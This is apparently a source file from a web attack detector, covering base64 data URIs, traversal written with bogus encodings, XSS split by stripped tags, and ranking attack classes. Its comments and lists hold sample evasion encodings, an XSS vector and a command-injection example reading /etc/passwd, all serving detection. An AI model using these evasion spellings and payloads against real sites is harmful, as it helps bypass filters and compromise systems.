function detectInDataUriBase64(p: usize, n: i32, classes: u32): AttackClass {
  if (n < 20) return AttackClass.None;
  let i = 5;
  if (ASC_FEATURE_SIMD) {
    const memEnd = <usize>memory.size() << 16;
    for (; i < n && p + <usize>i + 16 <= memEnd; i += 16) {
      let m = i8x16.bitmask(i8x16.eq(v128.load(p + <usize>i), i8x16.splat(0x34))) & lanesBefore(i, n);
      while (m != 0) {
        const k = i + <i32>ctz(m);
        m &= m - 1;
        const found = dataUriBase64At(p, n, k + 1, classes);
        if (found != AttackClass.None) return found;
      }
    }
  }
  for (; i < n; i++) {
    if (load<u8>(p + <usize>i) != 0x34) continue;
    const found = dataUriBase64At(p, n, i + 1, classes);
    if (found != AttackClass.None) return found;
  }
  return AttackClass.None;
}
// At i: the separator after "base64" (',' or "%2C"), then the payload read decoded.
function dataUriBase64At(p: usize, n: i32, i: i32, classes: u32): AttackClass {
  if (i < 6 || i + 8 >= n) return AttackClass.None;
  {
    if (load<u8>(p + <usize>i) != 0x2c && !(load<u8>(p + <usize>i) == 0x25 && i + 2 < n && load<u8>(p + <usize>i, 1) == 0x32 && (load<u8>(p + <usize>i, 2) | 0x20) == 0x63)) return AttackClass.None;
    // "base64" right before the separator (any case)
    let ok = true;
    const w = "base64";
    for (let k = 0; k < 6 && ok; k++) ok = (<u32>load<u8>(p + <usize>(i - 6 + k)) | 0x20) == <u32>w.charCodeAt(k);
    if (!ok) return AttackClass.None;
    const s = i + (load<u8>(p + <usize>i) == 0x2c ? 1 : 3);
    let e = s;
    while (e < n && base64Value(<u32>load<u8>(p + <usize>e)) < B64_BLANK) e++;
    while (e < n && load<u8>(p + <usize>e) == 0x3d) e++;
    if (e - s < 12) return AttackClass.None;
    return detectInBase64Text(p + <usize>s, e - s, classes);
  }
}

// Traversal spelled with a tool's bogus separators: dotdotpwn and its kind write '/' and '.' in ways no decoder
// reads ("..0x2f", "..%c1%pc", "..%c0%9v", "..%uEFC8", "..%%32%%66", "%c0%5e" for a dot …), and CRS takes them as
// traversal attempts (930100). A value holding one of them (after %25 is unwrapped: they come encoded again) is
// read once more by the traversal rules with each such spelling replaced by the byte it stands for.
const SPELLED_SEPARATORS: StaticArray<string> = ["0x2f", "0x5c", "%c0%5c", "%c1%pc", "%c0%9v", "%c0%qf", "%c1%8s", "%c1%af", "%bg%qf", "%uefc8", "%uf025", "%%32%%66", "%%35%%63"];
const SPELLED_DOTS: StaticArray<string> = ["0x2e", "%c0%5e", "%c0%fe", "%c0.", "%e0%40%ae", "%%32%%65"];
let spelledText: usize = 0, spelledSwap: usize = 0;
// Whether (p, n) may hold a spelling: '%' before c, b, u, e, '%' or "25", or "0x" before 2 or 5.
function spelledCandidate(p: usize, n: i32): bool {
  let i = 0;
  if (ASC_FEATURE_SIMD) {
    const memEnd = <usize>memory.size() << 16;
    for (; i < n && p + <usize>i + 16 <= memEnd; i += 16) {
      const v = v128.load(p + <usize>i);
      let m = i8x16.bitmask(v128.or(i8x16.eq(v, i8x16.splat(0x25)), i8x16.eq(v128.or(v, i8x16.splat(0x20)), i8x16.splat(0x78)))) & lanesBefore(i, n);
      while (m != 0) { if (spelledCandidateAt(p, i + ctz(m), n)) return true; m &= m - 1; }
    }
  }
  for (; i < n; i++) if (spelledCandidateAt(p, i, n)) return true;
  return false;
}
@inline function spelledCandidateAt(p: usize, i: i32, n: i32): bool {
  const c = <u32>load<u8>(p + <usize>i);
  if (c == 0x25) {
    if (i + 2 >= n) return false;
    const a = <u32>load<u8>(p + <usize>(i + 1)) | 0x20;
    return a == 0x63 || a == 0x62 || a == 0x75 || a == 0x65 || a == 0x25 || (a == 0x32 && load<u8>(p + <usize>(i + 2)) == 0x35);
  }
  if ((c | 0x20) != 0x78 || i == 0 || i + 1 >= n || load<u8>(p + <usize>(i - 1)) != 0x30) return false;
  const d = <u32>load<u8>(p + <usize>(i + 1));
  return d == 0x32 || d == 0x35;
}
function detectInSpelledSeparators(p: usize, n: i32, classes: u32): AttackClass {
  if ((classes & (1 << AttackClass.Traversal)) == 0 || n < 6 || !spelledCandidate(p, n)) return AttackClass.None;
  if (spelledText == 0) { spelledText = heap.alloc(<usize>(NORM_CAP + NORM_SLACK)); spelledSwap = heap.alloc(<usize>(NORM_CAP + NORM_SLACK)); }
  // Lower case, and "%25" unwrapped to "%" (up to three times: %252525c0 is %c0).
  let len = n < NORM_CAP ? n : NORM_CAP;
  let src = p, dst = spelledSwap;
  for (let pass = 0; pass < 3; pass++) {
    let w = 0, unwrapped = false;
    for (let i = 0; i < len; i++) {
      let c = <u32>load<u8>(src + <usize>i);
      if (c == 0x25 && i + 2 < len && load<u8>(src + <usize>(i + 1)) == 0x32 && load<u8>(src + <usize>(i + 2)) == 0x35) { i += 2; unwrapped = true; }
      else if (c - 0x41 < 26) c |= 0x20;
      store<u8>(dst + <usize>(w++), <u8>c);
    }
    len = w;
    src = dst;
    dst = dst == spelledSwap ? spelledText : spelledSwap;
    if (!unwrapped) break;
  }
  // Each spelling replaced by '/' or '.'.
  let w = 0, replaced = false;
  for (let i = 0; i < len; ) {
    const c = <u32>load<u8>(src + <usize>i);
    let k = -1;
    if (c == 0x25 || c == 0x30) {
      k = spellingAt(src, i, len, SPELLED_SEPARATORS);
      if (k > 0) { store<u8>(dst + <usize>(w++), 0x2f); i += k; replaced = true; continue; }
      k = spellingAt(src, i, len, SPELLED_DOTS);
      if (k > 0) { store<u8>(dst + <usize>(w++), 0x2e); i += k; replaced = true; continue; }
    }
    store<u8>(dst + <usize>(w++), <u8>c);
    i++;
  }
  if (!replaced) return AttackClass.None;
  const bits = detectAttacksMayHold(dst, w, 1 << AttackClass.Traversal);
  if (bits == 0) return AttackClass.None;
  lastRule = "traversal:spelled-separator";
  return AttackClass.Traversal;
}
// The length of the spelling of `list` at i of (s, n) (lower case), or 0.
function spellingAt(s: usize, i: i32, n: i32, list: StaticArray<string>): i32 {
  for (let k = 0; k < list.length; k++) {
    const t = unchecked(list[k]);
    const m = t.length;
    if (i + m > n || <u32>load<u8>(s + <usize>i) != ch(t, 0)) continue;
    let j = 1;
    while (j < m && <u32>load<u8>(s + <usize>(i + j)) == ch(t, j)) j++;
    if (j == m) return m;
  }
  return 0;
}

// A vector written for a sanitizer that deletes tags: autof<x>ocus o<x>nfocus=alert<x>(1) is
// "autofocus onfocus=alert(1)" once "<x>" is taken out. When the normalized value (as the last detection
// left it) has a bare tag inside a word (a letter on both sides), the value without its bare tags (<name>,
// </name>, up to 10 letters) is read once more by the XSS rules. Ordinary markup puts tags between words.
let strippedText: usize = 0;
function detectInTagStripped(classes: u32): AttackClass {
  if ((classes & (1 << AttackClass.Xss)) == 0 || (present & P_LT) == 0 || !bareTagInWord()) return AttackClass.None;
  if (strippedText == 0) strippedText = heap.alloc(<usize>(NORM_CAP + NORM_SLACK));
  let w = 0;
  for (let i = 0; i < normLen; ) {
    const e = nb(i) == 0x3c ? bareTagEnd(i) : -1;
    if (e > 0) { i = e; continue; }
    store<u8>(strippedText + <usize>(w++), <u8>nb(i));
    i++;
  }
  const wasForm = formEncoded;
  formEncoded = false; // already decoded: read as it is
  const bits = detectAttacksMayHold(strippedText, w, 1 << AttackClass.Xss);
  formEncoded = wasForm;
  if (bits == 0) return AttackClass.None;
  lastRule = "xss:split-by-tags";
  return AttackClass.Xss;
}
// The end (past '>') of a bare tag <name> or </name> at i (1-10 letters, nothing else), or -1.
function bareTagEnd(i: i32): i32 {
  let j = i + 1;
  if (nb(j) == 0x2f) j++;
  const s = j;
  while (j < normLen && j - s <= 10 && isAlpha(nb(j))) j++;
  return j > s && j - s <= 10 && nb(j) == 0x3e ? j + 1 : -1;
}
function bareTagInWord(): bool {
  for (let i = indexOf("<", 1); i >= 0; i = indexOf("<", i + 1)) {
    if (!isAlpha(nb(i - 1))) continue;
    const e = bareTagEnd(i);
    if (e > 0 && (isAlpha(nb(e)) || nb(e) == 0x28)) return true;
  }
  return false;
}

// Headers whose value is the URL of a page the client came from (Referer, Origin): a browser on a PHP site
// sends …/cart.php?id=3, a developer's browser http://localhost:3000/. Remote-include and internal-host
// shapes are what such a header always looks like, so only the other classes are read there.
export const URL_HEADER_CLASSES: u32 = ALL_VALUE_CLASSES & ~((1 << <u32>AttackClass.Rfi) | (1 << <u32>AttackClass.Ssrf));
export function detectAttackInUrlHeader(p: usize, n: i32): AttackClass {
  return detectRemembering(p, n < NORM_CAP ? n : NORM_CAP, URL_HEADER_CLASSES);
}

// A request path's segments, each one value: REST APIs carry ids, names and queries in the path
// (/api/users/1 OR 1=1/orders), where the whole path's slashes stand between the SQL words and the lexer.
// Read after the whole path (which keeps traversal: "..", sensitive files); a segment of under 3 bytes holds
// nothing, and a path of one segment was read whole. The first class found, or None.
export const PATH_SEGMENT_CLASSES: u32 = ALL_VALUE_CLASSES & ~(1 << <u32>AttackClass.Traversal);
export function detectAttackInPathSegments(p: usize, n: i32): AttackClass {
  let start = 0;
  for (let i = 0; i <= n; i++) {
    if (i < n && load<u8>(p + <usize>i) != 0x2f) continue;
    const len = i - start;
    if (len >= 3 && len < n) {
      const c = detectInWindows(p + <usize>start, len, PATH_SEGMENT_CLASSES);
      if (c != AttackClass.None) return c;
    }
    start = i + 1;
  }
  return AttackClass.None;
}

// Values longer than the detectors' window (NORM_CAP) are read in overlapping windows: padding a payload
// past the first 8 KiB must not hide it.
const ATTACK_OVERLAP: i32 = 1024;
export function detectAttackWindowed(p: usize, n: i32): AttackClass { return detectInWindows(p, n, ALL_VALUE_CLASSES); }
// (p, n) in NORM_CAP windows that overlap by ATTACK_OVERLAP, for the classes asked: the first class found.
function detectInWindows(p: usize, n: i32, classes: u32): AttackClass {
  for (let off = 0; off < n; off += NORM_CAP - ATTACK_OVERLAP) {
    const len = n - off < NORM_CAP ? n - off : NORM_CAP;
    const c = detectRemembering(p + <usize>off, len, classes);
    if (c != AttackClass.None) return c;
    if (off + len >= n) break;
  }
  return AttackClass.None;
}

// A document whose values are read one by one (XML) is read whole for what lies in its structure only: XXE
// (DOCTYPE, ENTITY, XInclude), markup (script elements, handler attributes), commands and lookups in
// processing instructions or comments; SQL, template and path rules read the values.
export const DOCUMENT_CLASSES: u32 = (1 << <u32>AttackClass.Xxe) | (1 << <u32>AttackClass.Xss) | (1 << <u32>AttackClass.Cmdi) | (1 << <u32>AttackClass.Jndi);
export function detectAttackInDocument(p: usize, n: i32): AttackClass { return detectInWindows(p, n, DOCUMENT_CLASSES); }

// The normalized form of (p, n), for tests.
export function normalizedText(p: usize, n: i32): string {
  normalize(p, n);
  return String.UTF8.decodeUnsafe(normPtr, <usize>normLen);
}

// When a value trips several classes, the one that names the intent: "; cat /etc/passwd" is command
// injection that reads a sensitive file, not a traversal; a JNDI or XXE payload often holds a URL too.
// A template expression that runs a command ({{…popen('id')}}, ${T(…).exec('id')}) is reported as the
// template injection it is: SSTI before command injection.
// An out-of-band domain alone (scanner) is the least specific: in a JNDI lookup or an XXE entity it is that attack.
const SPECIFICITY: StaticArray<i32> = [7, 6, 8, 4, 14, 0, 1, 5, 3, 2, 9, 16]; // jndi, xxe, ssti, cmdi, prototype_pollution, sqli, xss, ssrf, rfi, traversal, protocol, scanner
export function mostSpecific(bits: u32): AttackClass {
  for (let k = 0; k < SPECIFICITY.length; k++) if (bits & (1 << <u32>SPECIFICITY[k])) return <AttackClass>SPECIFICITY[k];
  return AttackClass.None;
}
